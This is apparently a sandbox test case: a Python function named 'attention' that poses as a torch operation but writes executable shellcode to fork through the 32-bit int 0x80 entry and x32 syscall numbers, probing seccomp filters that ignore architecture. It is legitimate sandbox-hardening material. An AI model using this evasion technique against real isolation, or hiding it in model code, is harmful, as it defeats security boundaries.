# expect: WA|RTE
"""fork through the 32-bit entry and through x32 numbers, which a filter made for one ABI may not see. Seen: common in seccomp filters that check no architecture."""
import ctypes
import mmap
import os
import platform

import torch


def attention(q, k, v, mask=None):
    if platform.machine() != "x86_64":
        return torch.zeros_like(v)
    libc = ctypes.CDLL(None, use_errno=True)
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    for name, call in (("int80", ctypes.CFUNCTYPE(ctypes.c_int)(address)), ("x32", lambda: libc.syscall(0x40000000 | 57))):
        pid = call()
        if pid == 0:
            os.write(1, b"LEAK a forked child runs\n")
            os._exit(0)
        if pid > 0:
            print("LEAK", name, flush=True)
    return torch.zeros_like(v)
